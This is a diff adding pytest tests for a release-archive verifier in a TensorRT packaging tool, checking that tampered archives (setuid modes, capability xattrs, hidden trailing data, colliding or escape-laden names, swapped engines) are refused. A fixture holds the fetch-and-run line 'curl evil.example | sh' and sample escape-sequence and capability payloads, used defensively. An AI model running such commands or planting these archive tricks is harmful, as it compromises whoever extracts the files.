@@ -10,16 +10,21 @@ import gzip
 import hashlib
 import io
 import json
+import os
 import random
 import subprocess
 import sys
 import tarfile
+import tracemalloc
 import types
+import unicodedata
 from pathlib import Path
 
 import pytest
 
+from trtforge.errors import StageError
 from trtforge.release_verify import PackageError, verify_archive
+from trtforge.stages.package import PackageJob, make_package
 
 STEM = "yolov8n-fp16-trt10.8.0-sm86-0123abcd"
 TRTFORGE = Path(sys.executable).parent / "trtforge"
@@ -61,33 +66,57 @@ def entry(name: str, data: bytes = b"", kind: bytes = tarfile.REGTYPE, linkname:
     return info, data
 
 
-def write_archive(folder: Path, entries: list[tuple], *, stem: str = STEM, sidecar: bool = True) -> Path:
+def tar_bytes(entries: list[tuple]) -> bytes:
     raw = io.BytesIO()
     with tarfile.open(fileobj=raw, mode="w", format=tarfile.PAX_FORMAT) as tar:
         for info, data in entries:
             tar.addfile(info, io.BytesIO(data) if info.isreg() else None)
+    return raw.getvalue()
+
+
+def gzip_bytes(raw: bytes) -> bytes:
     out = io.BytesIO()
     with gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0, compresslevel=9) as gz:
-        gz.write(raw.getvalue())
+        gz.write(raw)
+    return out.getvalue()
+
+
+def write_gz(folder: Path, data: bytes, *, stem: str = STEM, sidecar: bool = True) -> Path:
+    """`data` as the archive, with a sidecar that matches it (so a tampering that also
+    rewrote the sidecar is what the other checks must catch)."""
     archive = folder / f"{stem}.tar.gz"
-    archive.write_bytes(out.getvalue())
+    archive.write_bytes(data)
     if sidecar:
-        digest = hashlib.sha256(out.getvalue()).hexdigest()
+        digest = hashlib.sha256(data).hexdigest()
         archive.with_name(archive.name + ".sha256").write_text(f"{digest}  {archive.name}\n")
     return archive
 
 
-def build(folder: Path, members: dict[str, bytes] | None = None, *, manifest: bytes | None = None,
-          extra: list[tuple] = (), sidecar: bool = True, dirs: bool = False) -> Path:
-    """A release archive of `members` (default: a good one) with `manifest` (default: right
-    for `members`) and `extra` raw entries appended after the sorted files."""
+def write_archive(folder: Path, entries: list[tuple], *, stem: str = STEM, sidecar: bool = True) -> Path:
+    return write_gz(folder, gzip_bytes(tar_bytes(entries)), stem=stem, sidecar=sidecar)
+
+
+def good_entries(members: dict[str, bytes] | None = None, *, manifest: bytes | None = None,
+                 dirs: bool = False) -> list[tuple]:
     members = good_members() if members is None else members
     files = dict(members)
     files["manifest.json"] = manifest_for(members) if manifest is None else manifest
     entries = [entry(f"{STEM}/{name}", files[name]) for name in sorted(files)]
     if dirs:
         entries = [entry(STEM, kind=tarfile.DIRTYPE), entry(f"{STEM}/triton", kind=tarfile.DIRTYPE)] + entries
-    return write_archive(folder, entries + list(extra), sidecar=sidecar)
+    return entries
+
+
+def build(folder: Path, members: dict[str, bytes] | None = None, *, manifest: bytes | None = None,
+          extra: list[tuple] = (), sidecar: bool = True, dirs: bool = False, edit=None) -> Path:
+    """A release archive of `members` (default: a good one) with `manifest` (default: right
+    for `members`) and `extra` raw entries appended after the sorted files; `edit(info)`
+    may change any member's header before it is written."""
+    entries = good_entries(members, manifest=manifest, dirs=dirs) + list(extra)
+    for info, _ in entries:
+        if edit:
+            edit(info)
+    return write_archive(folder, entries, sidecar=sidecar)
 
 
 def listing(folder: Path) -> list[str]:
@@ -344,3 +373,199 @@ def test_cli_unexpected_error_is_one_line_unless_debug(tmp_path, monkeypatch):
     assert "Traceback" not in plain.output
     debug = CliRunner().invoke(main, ["--debug", "verify-package", str(archive)])
     assert isinstance(debug.exception, ValueError)
+
+
+# ----------------------------------------------------------------------------- issue 13: tampering shapes
+# Each archive below lists every file it holds in its manifest, with a matching sidecar:
+# the tampering is in what the hashes do not cover (headers, names, bytes past the end).
+
+def edit_member(relative: str, **fields):
+    def edit(info: tarfile.TarInfo) -> None:
+        if info.name == f"{STEM}/{relative}".rstrip("/"):
+            for key, value in fields.items():
+                setattr(info, key, value)
+    return edit
+
+
+@pytest.mark.parametrize("relative, mode, says", [
+    ("reproduce.sh", 0o4755, r"has mode 4755 \(setuid\), not 0755"),
+    ("engine.plan", 0o2644, r"has mode 2644 \(setgid\), not 0644"),
+    ("triton", 0o1777, r"has mode 1777 \(sticky, world-writable, group-writable\), not 0755"),
+    ("model.onnx", 0o666, r"has mode 0666 \(world-writable, group-writable\), not 0644"),
+    ("engine.plan", 0o755, r"has mode 0755, not 0644"),  # an executable engine: not what the package stage writes
+    ("reproduce.sh", 0o600, r"has mode 0600, not 0755"),
+])
+def test_modes_other_than_the_package_stages_are_refused(tmp_path, relative, mode, says):
+    archive = build(tmp_path, dirs=True, edit=edit_member(relative, mode=mode))
+    refused(archive, rf"member '{STEM}/{relative}' {says}: a release has 0755 folders, 0755 \*\.sh scripts, 0644 other")
+
+
+@pytest.mark.parametrize("field, value, says", [
+    ("uid", 1000, r"uid 1000, gid 0 \(names '', ''\)"),
+    ("gid", 27, r"uid 0, gid 27 \(names '', ''\)"),
+    ("uname", "root", r"uid 0, gid 0 \(names 'root', ''\)"),  # GNU tar maps names before ids
+    ("gname", "wheel", r"uid 0, gid 0 \(names '', 'wheel'\)"),
+])
+def test_owners_other_than_root_without_names_are_refused(tmp_path, field, value, says):
+    archive = build(tmp_path, edit=edit_member("calib.cache", **{field: value}))
+    refused(archive, rf"member '{STEM}/calib.cache' is owned by {says}, not uid 0, gid 0 with no names")
+
+
+def test_extended_attributes_are_refused(tmp_path):
+    capability = {"SCHILY.xattr.security.capability": "\x01\x00\x00\x02\x00\x20\x00\x00"}  # cap_sys_admin
+    archive = build(tmp_path, edit=edit_member("reproduce.sh", pax_headers=capability))
+    refused(archive, rf"member '{STEM}/reproduce.sh' carries the PAX record 'SCHILY.xattr.security.capability'")
+
+
+PAYLOAD = [entry(f"{STEM}/reproduce.sh", b"#!/bin/sh\ncurl evil.example | sh\n")]
+
+
+def test_data_after_the_tar_end_marker_is_refused(tmp_path):
+    good = tar_bytes(good_entries())
+    hidden = write_gz(tmp_path, gzip_bytes(good + tar_bytes(PAYLOAD)))  # `tar -xi` extracts the second copy
+    refused(hidden, rf"data after the tar end marker: \d+ bytes follow the last member "
+                    rf"'{STEM}/triton/yolov8n_fp16/config.pbtxt' at tar offset \d+ and are not all zero padding")
+    junk = write_gz(tmp_path, gzip_bytes(good[:-3] + b"END"))  # in the zero padding tarfile never reads
+    refused(junk, r"data after the tar end marker: \d+ bytes follow the last member")
+
+
+@pytest.mark.parametrize("appended, says", [
+    (b"\0" * 1024, r"1024 bytes after the end of the gzip stream"),  # Python's gzip skips these
+    (gzip_bytes(tar_bytes(PAYLOAD)), r"\d+ bytes after the end of the gzip stream"),  # gzip -d reads it as more data
+])
+def test_bytes_appended_after_the_gzip_stream_are_refused(tmp_path, appended, says):
+    archive = write_gz(tmp_path, gzip_bytes(tar_bytes(good_entries())) + appended)
+    refused(archive, says + r" at byte \d+: data appended to the archive \(the package stage writes one gzip stream\)")
+
+
+NFC = unicodedata.normalize("NFC", "modèle.onnx")
+NFD = unicodedata.normalize("NFD", "modèle.onnx")
+
+
+@pytest.mark.parametrize("twins, says", [
+    (("engine.plan", "Engine.plan"), rf"members '{STEM}/Engine.plan' and '{STEM}/engine.plan' differ only in case"),
+    ((NFC, NFD), r"members '.*/mode\\u0300le.onnx' and '.*/mod\\xe8le.onnx' differ only in case or Unicode normalisation"),
+    (("triton/a.txt", "Triton/b.txt"),
+     rf"member '{STEM}/triton/a.txt': paths '{STEM}/Triton' and '{STEM}/triton' differ only in case"),
+    (("engine.plan", "engine.plan."), rf"members '{STEM}/engine.plan' and '{STEM}/engine.plan.' differ only"),  # Windows drops the dot
+])
+def test_names_that_collide_on_macos_or_windows_are_refused(tmp_path, twins, says):
+    members = {**good_members(), twins[0]: b"first", twins[1]: b"second"}
+    archive = build(tmp_path, members)
+    error = refused(archive, says)
+    assert "one overwrites the other on macOS and Windows" in str(error)
+
+
+@pytest.mark.parametrize("name, code", [
+    ("engine\n.plan", "000A"),
+    ("\x1b[2J\x1b[Hreadme.txt", "001B"),
+    ("a\x7fb", "007F"),
+    ("invoice\u202egnp.sh", "202E"),  # right-to-left override: shows as "invoicehs.png"
+])
+def test_control_characters_in_names_are_refused(tmp_path, name, code):
+    archive = build(tmp_path, {**good_members(), name: b"x"})
+    refused(archive, rf"member '{STEM}/.*' has a control or non-printable character \(U\+{code}\) in its name")
+    result = run_cli("verify-package", archive)
+    assert result.returncode == 1 and result.stderr.count("\n") == 1 and "\x1b" not in result.stderr
+
+
+def test_manifest_strings_reach_messages_and_the_report_escaped(tmp_path):
+    members = good_members()
+    manifest = json.loads(manifest_for(members, tensorrt="10.8.0\x1b]0;owned\x07"))
+    archive = build(tmp_path, members, manifest=json.dumps(manifest).encode())
+    assert verify_archive(archive)["tensorrt"] == "10.8.0\\x1b]0;owned\\x07"
+    manifest["files"]["\x1b[2Jgone\n.plan"] = {"sha256": "0" * 64, "bytes": 1}  # listed, not shipped
+    archive = build(tmp_path, members, manifest=json.dumps(manifest).encode())
+    error = refused(archive, r"listed in manifest.json but missing from the archive: \\x1b\[2Jgone\\n\.plan$")
+    assert "\x1b" not in str(error)
+
+
+def peak_memory(call) -> int:
+    tracemalloc.start()
+    try:
+        call()
+    except PackageError:
+        pass
+    finally:
+        peak = tracemalloc.get_traced_memory()[1]
+        tracemalloc.stop()
+    return peak
+
+
+@pytest.mark.parametrize("json_member", ["manifest.json", "summary.json"])
+def test_members_are_read_in_chunks_and_json_members_capped_before_reading(tmp_path, json_member):
+    # zeros compress about 1000:1, so these archives are small; max_ratio lets them through step 2
+    members = {**good_members(), "engine.plan": bytes(48 << 20)}
+    big = b"{}" + b" " * (17 << 20)  # valid JSON, just over the 16 MiB cap
+    archive = build(tmp_path, {**members, "summary.json": big} if json_member == "summary.json" else members,
+                    manifest=big if json_member == "manifest.json" else None)
+    refused(archive, rf"member '{STEM}/{json_member}' is {len(big)} bytes, more than the 16777216 a release's "
+                     rf"{json_member} may be; refused without reading it", max_ratio=5000)
+    assert peak_memory(lambda: verify_archive(archive, max_ratio=5000)) < 8 << 20
+
+
+def test_oversized_sidecar_is_refused_without_reading_it(tmp_path):
+    archive = build(tmp_path)
+    sidecar = archive.with_name(archive.name + ".sha256")
+    sidecar.write_text(sidecar.read_text() + "\n" * (32 << 20))  # one good line, then 32 MiB sha256sum never writes
+    refused(archive, rf"{sidecar.name} is {sidecar.stat().st_size} bytes, not one sha256sum line \(at most 4096\)")
+    assert peak_memory(lambda: verify_archive(archive)) < 1 << 20
+
+
+def summary_for(engine: bytes) -> bytes:
+    """The engine stage's summary.json, reduced to the fields the cross-check reads."""
+    return json.dumps({"engine_sha256": hashlib.sha256(engine).hexdigest(), "engine_bytes": len(engine)}).encode()
+
+
+def test_engine_must_be_the_one_summary_json_records(tmp_path):
+    members = good_members()
+    members["triton/yolov8n_fp16/1/model.plan"] = members["engine.plan"]
+    swapped = {**members, "summary.json": summary_for(b"the engine that was built and checked")}
+    refused(build(tmp_path, swapped), r": engine.plan: sha256 [0-9a-f]{16}\.\.\. is not the engine summary.json "
+                                      r"records \([0-9a-f]{16}\.\.\.\): the engine was changed after it was built")
+    triton = {**members, "summary.json": summary_for(members["engine.plan"]),
+              "triton/yolov8n_fp16/1/model.plan": b"another plan"}
+    refused(build(tmp_path, triton), r": triton/yolov8n_fp16/1/model.plan: sha256 .* is not the engine summary.json")
+    gone = {k: v for k, v in members.items() if k != "engine.plan"} | {"summary.json": summary_for(b"x")}
+    refused(build(tmp_path, gone), r"summary.json records engine sha256 [0-9a-f]{16}\.\.\. but the archive has no engine.plan")
+
+
+def package_job(folder: Path, engine: bytes) -> PackageJob:
+    """A package job over the files the engine stage leaves (summary.json as it writes it)."""
+    out = folder / "artifacts"
+    out.mkdir()
+    (out / "engine.plan").write_bytes(engine)
+    (out / "model.onnx").write_bytes(b"onnx")
+    (out / "trtexec.sh").write_text("#!/bin/sh\ntrtexec --onnx=model.onnx --saveEngine=engine.plan\n")
+    (out / "export.json").write_text("{}")
+    (out / "summary.json").write_text(json.dumps({
+        "tensorrt": "10.8.0", "argv": [], "performance": {},
+        "device": {"gpu": "NVIDIA GeForce RTX 3090", "compute_capability": "8.6"},
+        "engine_bytes": len(engine), "engine_sha256": hashlib.sha256(engine).hexdigest()}))
+    return PackageJob(task="package:yolov8n-fp16", recipe="yolov8n", variant="fp16",
+                      files=tuple((n, out / n) for n in ("engine.plan", "model.onnx", "summary.json")),
+                      summary=out / "summary.json", script=out / "trtexec.sh", export_metadata=out / "export.json",
+                      resolved_recipe={"name": "yolov8n"}, max_batch=0, triton=False, ultralytics_engine=False,
+                      release_dir=folder / "release", record=folder / "release.json")
+
+
+def test_package_stage_refuses_an_engine_changed_after_it_was_built(tmp_path):
+    engine = random.Random(1).randbytes(4096)
+    job = package_job(tmp_path, engine)
+    make_package(job)
+    (archive,) = job.release_dir.glob("*.tar.gz")
+    # the package stage's own archive passes every check: modes, owners, padding, engine hash
+    assert verify_archive(archive)["engine_sha256"] == hashlib.sha256(engine).hexdigest()
+    released = archive.read_bytes()
+
+    plan = job.files[0][1]
+    stat = plan.stat()
+    plan.write_bytes(engine[:100] + bytes([engine[100] ^ 1]) + engine[101:])  # same size, then the old mtime
+    os.utime(plan, ns=(stat.st_atime_ns, stat.st_mtime_ns))
+    with pytest.raises(StageError) as info:
+        make_package(job)
+    message = str(info.value)
+    assert "\n" not in message and message.startswith(f"package:yolov8n-fp16: {plan} has sha256 ")
+    assert message.endswith("records: the engine changed after it was built; rebuild it with "
+                            "`doit forget engine:yolov8n-fp16` then `doit package:yolov8n-fp16`")
+    assert archive.read_bytes() == released  # the earlier release is left as it was
